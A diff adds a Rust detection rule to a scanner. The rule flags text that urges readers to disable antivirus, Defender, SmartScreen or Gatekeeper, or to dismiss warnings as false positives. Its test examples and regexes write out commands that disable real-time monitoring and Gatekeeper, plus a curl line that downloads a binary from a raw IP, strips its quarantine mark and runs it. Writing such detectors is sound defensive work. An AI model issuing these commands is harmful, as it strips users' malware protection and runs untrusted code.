@@ -1,0 +1,79 @@
+//! Protection is to be switched off so that something can be started.
+
+use crate::link::{Link, links};
+use crate::phrase::{Phrases, is_forbidden, is_told_of, section};
+use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::unit::{TOLD, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "LURE_UNPROTECTED",
+    category: Category::Lure,
+    severity: Severity::Critical,
+    title: "protection against malware is to be switched off",
+    why: "What runs only while nobody looks for malware is malware until shown otherwise.",
+    fix: "leave the protection on",
+    places: TOLD,
+    anchors: &[
+        "antivirus",
+        "anti-virus",
+        "defender",
+        "smartscreen",
+        "gatekeeper",
+        "real-time protection",
+        "quarantine",
+        "spctl",
+        "xattr",
+        "edr",
+        "false positive",
+        "set-mppreference",
+        "security software",
+    ],
+    check: Check::Unit(hits),
+    hits: &[
+        text("Turn off Windows Defender real-time protection before you run the installer."),
+        text(
+            "Your antivirus may flag the file; this is a false positive, ignore it. Download: https://dl.somebody.net/a.exe",
+        ),
+        text("```sh\ncurl -L http://8.8.4.4/app -o app && xattr -c app && ./app\n```"),
+        text("```powershell\nSet-MpPreference -DisableRealtimeMonitoring $true\n```"),
+        text("`sudo spctl --master-disable`"),
+    ],
+    misses: &[
+        text("Never turn off Windows Defender."),
+        text("A false positive of the linter can be ignored."),
+        text("If macOS refuses to open the app: `xattr -d com.apple.quarantine /Applications/Tool.app`"),
+        text("Check that Gatekeeper is enabled and Defender is running."),
+        text("OPA Gatekeeper can be disabled per namespace."),
+    ],
+};
+
+static PHRASES: Phrases = Phrases::new(&[
+    r"\b(?:disabl(?:e|ing)|turn(?:ing)? off|paus(?:e|ing)|deactivat(?:e|ing)|switch(?:ing)? off|stop|uninstall|kill) (?:<any> ){0,3}(?:antivirus|anti-virus|windows defender|microsoft defender|defender|smartscreen|macos gatekeeper|real-time (?:protection|scanning)|security software|edr)\b",
+    r"\b(?:add|create|set) (?:<any> ){0,3}(?:exclusion|exception)s? (?:<any> ){0,4}(?:antivirus|anti-virus|defender)\b",
+    r"\bset-mppreference\b[^\n]{0,60}(?:-disable\w+ (?:\$true|1)|-exclusion)",
+    r"\badd-mppreference\b[^\n]{0,40}-exclusion",
+    r"\bspctl\s+--(?:master|global)-disable\b",
+]);
+
+/// Claims that a warning means nothing, and what takes the mark of a download away.
+static EXCUSES: Phrases = Phrases::new(&[
+    r"\b(?:antivirus|anti-virus|defender|smartscreen|gatekeeper|security software|windows|macos)\b... (?:may|might|could|will|can)... (?:flag|warn|block|detect|quarantine|delete|complain)\w*...\b(?:false positive|ignore|safe|run anyway|allow|harmless)\b",
+    r"\bfalse positive\b... (?:antivirus|anti-virus|defender|smartscreen)\b",
+    r"\bxattr\s+-(?:c|cr|rc|d|dr|rd)\b",
+]);
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    let text = unit.text();
+    let said =
+        |range: &std::ops::Range<usize>| !is_forbidden(text, range.start) && !is_told_of(text, range.start);
+    let mut found: Vec<Hit> = PHRASES.ranges(text).into_iter().filter(said).map(Hit::at).collect();
+    let excuses: Vec<_> = EXCUSES.ranges(text).into_iter().filter(said).collect();
+    if !excuses.is_empty() {
+        let (before, after) = section(unit, 400);
+        let strange = |link: &Link<'_>| link.is_anybodys() || link.is_program();
+        if [before, text, after].iter().any(|part| links(part).iter().any(strange)) {
+            found.extend(excuses.into_iter().map(Hit::at));
+        }
+    }
+    found
+}
